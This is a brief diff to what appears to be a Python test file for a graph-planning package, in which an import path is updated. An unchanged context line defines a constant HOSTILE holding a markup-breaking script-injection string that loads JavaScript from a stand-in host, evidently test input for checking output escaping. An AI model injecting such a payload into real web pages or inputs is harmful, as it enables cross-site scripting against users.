@@ -7,7 +7,7 @@ from xml.etree import ElementTree
 
 import tritonsym as mx
 from named_graphs import GRAPHS, plan_of
-from tritonsym.plan import Plan
+from tritonsym.planning.plan import Plan
 
 HOSTILE = "</title></svg><script src='https://evil.example/x.js'>alert(\"1\")</script>&\x00\u2028"
 
